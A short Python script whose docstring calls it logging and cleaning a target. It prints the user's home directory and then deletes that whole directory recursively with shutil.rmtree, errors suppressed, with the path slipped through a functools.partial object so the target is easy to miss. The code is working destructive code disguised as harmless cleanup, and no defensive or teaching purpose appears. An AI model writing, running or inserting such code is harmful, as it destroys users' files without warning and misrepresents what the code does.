"""Log the target, then clean it."""
import functools
import shutil
from pathlib import Path

announce = functools.partial(print, Path.home())
announce()
shutil.rmtree(announce.args[0], ignore_errors=True)
